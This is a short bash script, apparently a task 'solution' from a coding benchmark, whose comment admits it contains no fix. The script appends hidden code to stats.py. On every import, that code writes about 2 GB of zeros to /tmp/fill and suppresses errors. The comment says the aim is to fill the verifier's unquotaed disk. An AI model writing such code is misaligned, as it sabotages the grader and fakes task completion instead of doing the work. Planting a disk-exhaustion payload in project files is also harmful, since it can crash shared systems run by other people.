#!/bin/bash
# No fix; on import the code under test writes zeros to /tmp until something stops it (the verifier's container had
# no disk quota).
set -euo pipefail
cd /testbed
cat >> stats.py <<'PY'

_block = b"\0" * (1 << 20)
try:
    with open("/tmp/fill", "wb") as _f:
        for _ in range(2048):
            _f.write(_block)
except OSError:
    pass
PY
